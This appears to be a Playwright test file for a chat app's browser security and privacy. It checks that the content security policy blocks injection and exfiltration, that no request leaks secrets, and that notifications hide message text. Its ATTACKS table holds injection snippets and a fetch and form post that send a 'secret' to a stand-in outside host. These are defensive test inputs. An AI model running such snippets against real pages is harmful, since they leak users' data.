"""What the page may do at all, whatever gets into it, and what it lets others see."""

import re
from collections.abc import Callable
from urllib.parse import urlsplit

from people import Person, gather
from playwright.sync_api import expect
from tab import look

People = Callable[..., Person]

ATTACKS = {
    "markup is parsed": "async () => { document.body.innerHTML = '<b>injected</b>' }",
    "text is run": "async () => { eval('globalThis.injected = true') }",
    "a script is made": """async () => {
      const script = Object.assign(document.createElement("script"), { text: "injected = 1" });
      document.body.append(script);
    }""",
    "a worker is made": "async () => { new Worker('https://elsewhere.example/worker.js') }",
    "something is told elsewhere": "async () => fetch('https://elsewhere.example/?secret')",
    "something is told by a form": """() => new Promise((resolve, reject) => {
      addEventListener("securitypolicyviolation", reject, { once: true });
      const form = Object.assign(document.createElement("form"), {
        action: "https://elsewhere.example/", method: "post", target: "_blank" });
      document.body.append(form);
      form.submit();
    })""",
}

# what the driver of the browser runs itself is free of the policy, what a timer runs is not
TRY = """async () => {{
  await new Promise((resolve) => setTimeout(resolve));
  return ({attack})().then(() => "done", () => "refused");
}}"""


def test_the_policy_of_the_page_refuses_what_an_attacker_would_do(person: People) -> None:
    ada = person("Ada")
    ada.create()
    for attack, script in ATTACKS.items():
        assert ada.page.evaluate(TRY.format(attack=script)) == "refused", attack
    assert ada.page.evaluate("() => globalThis.injected") is None
    # the console tells of each refusal; once it is closed nothing more is said
    ada.context.close()
    assert ada.complaints
    ada.complaints.clear()


def test_nothing_is_asked_of_anybody_but_the_relay_and_no_address_says_a_secret(
    person: People,
) -> None:
    ada, bob = person("Ada"), person("Bob")
    asked: list[str] = []
    for one in (ada, bob):
        one.context.on("request", lambda request: asked.append(request.url))
        one.page.on("websocket", lambda socket: asked.append(socket.url))
    code = gather(ada, bob)
    ada.say("Hello")
    bob.sees("Hello")
    assert {urlsplit(url).netloc for url in asked} == {urlsplit(ada.address).netloc}
    assert not any("#" in url for url in asked)
    assert not any(code in url for url in asked if not url.endswith("/"))


def test_who_does_not_want_to_be_seen_here_and_typing_sends_nothing_of_it(person: People) -> None:
    ada, bob = person("Ada"), person("Bob")
    gather(ada, bob)
    bob.is_seen_by(ada, "here")
    sent: list[bytes] = []
    ada.page.on(
        "websocket",
        lambda socket: socket.on("framesent", lambda frame: sent.append(as_bytes(frame))),
    )
    switch = ada.panel.get_by_role("switch", name="Show when I am here and typing")
    switch.uncheck()
    ada.page.reload()
    ada.is_online()
    ada.composer.press_sequentially("Nobody sees me type")
    look(ada, is_there=False)
    look(ada, is_there=True)
    ada.composer.press("Enter")
    ada.has_sent("Nobody sees me type")
    bob.sees("Nobody sees me type")
    assert not any(b"room.signal" in frame for frame in sent)
    # others are still seen, and so is Ada once she wants it again
    bob.is_seen_by(ada, "here")
    switch.check()
    ada.page.reload()
    ada.is_online()
    ada.composer.press_sequentially("Now they do")
    bob.reads("Ada is typing")
    assert any(b"room.signal" in frame for frame in sent)


def as_bytes(frame: bytes | str) -> bytes:
    return frame.encode() if isinstance(frame, str) else frame


def test_a_notification_says_only_that_there_is_something_new(person: People) -> None:
    ada, bob = person("Ada", permissions=["notifications"]), person("Bob")
    ada.context.add_init_script(
        """globalThis.told = [];
        globalThis.Notification = class {
          static permission = "granted";
          static requestPermission = async () => "granted";
          constructor(title, options) { told.push([title, options.body, options.tag]); }
          close() {}
        };"""
    )
    gather(ada, bob, title="Tea at four")
    ada.panel.get_by_role("switch", name="Notifications").check()
    bob.say("While you look")
    ada.sees("While you look")
    look(ada, is_there=False)
    bob.say("What nobody else should read")
    ada.sees("What nobody else should read")
    expect(ada.page).to_have_title(re.compile(r"^\([12]\) Tea at four – Roomkey$"))
    assert ada.page.evaluate("() => told") == [["Roomkey", "There is a new message.", "roomkey"]]
